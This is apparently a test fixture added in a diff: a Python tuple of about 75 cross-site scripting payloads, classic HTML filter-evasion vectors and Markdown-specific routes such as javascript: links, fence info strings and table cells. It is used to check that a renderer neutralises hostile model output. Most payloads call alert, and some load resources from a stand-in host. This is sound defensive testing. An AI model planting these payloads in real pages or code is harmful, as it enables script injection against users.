@@ -1,0 +1,92 @@
+"""Hostile replies: what a compromised or prompt-injected model could stream to the page.
+
+Drawn from the kinds in the OWASP XSS filter evasion cheat sheet (script and event-handler
+tags, obfuscated `javascript:` URLs, entity and whitespace tricks, SVG/MathML, CSS, meta
+refresh, base/form/frame tags) plus the Markdown-specific routes into HTML: link and image
+destinations, autolinks, reference definitions, fence info strings (they become a CSS
+class and a Pygments lexer name), table cells and emphasis around markup. Every payload
+that could run calls `alert`, which the test counts; every one that could fetch names a
+host off the machine, which the page session's request log would catch.
+"""
+
+from __future__ import annotations
+
+VECTORS: tuple[str, ...] = (
+    # plain HTML
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<img src=x onerror="alert(1)">',
+    "<img src=x onerror=alert(1)//",
+    '<IMG SRC="javascript:alert(1);">',
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
+    '<IMG SRC="jav&#x09;ascript:alert(1);">',
+    '<IMG SRC=" &#14;  javascript:alert(1);">',
+    "<BODY ONLOAD=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="  JaVaScRiPt:alert(1)">click</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<form action="javascript:alert(1)"><input type=submit></form>',
+    '<button formaction="javascript:alert(1)">go</button>',
+    "<input onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    '<video><source onerror="alert(1)"></video>',
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<div style="width: expression(alert(1));">x</div>',
+    '<style>@import "http://xss.example/x.css";</style>',
+    '<link rel=stylesheet href="http://xss.example/x.css">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<BASE HREF="http://xss.example/">',
+    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
+    '<DIV STYLE="background-image: url(&#1;javascript:alert(1))">x</DIV>',
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+    # Markdown routes into HTML
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](javascript&#58;alert(1))",
+    "[click](&#x6A;avascript:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](<javascript:alert(1)>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
+    "[click][ref]\n\n[ref]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](http://xss.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    '![x" onerror="alert(1)](x.png)',
+    "[![x](http://xss.example/a.png)](javascript:alert(1))",
+    '```"><script>alert(1)</script>\nprint(1)\n```',
+    "```python onload=alert(1)\nprint(1)\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
+    "| a |\n|:-:|\n| [x](javascript:alert(1)) |",
+    "**<img src=x onerror=alert(1)>**",
+    "~~<svg onload=alert(1)>~~",
+    "> <iframe src=http://xss.example/></iframe>",
+    "- <a href=javascript:alert(1)>x</a>\n- item",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<<script>script>alert(1)<</script>/script>",
+)
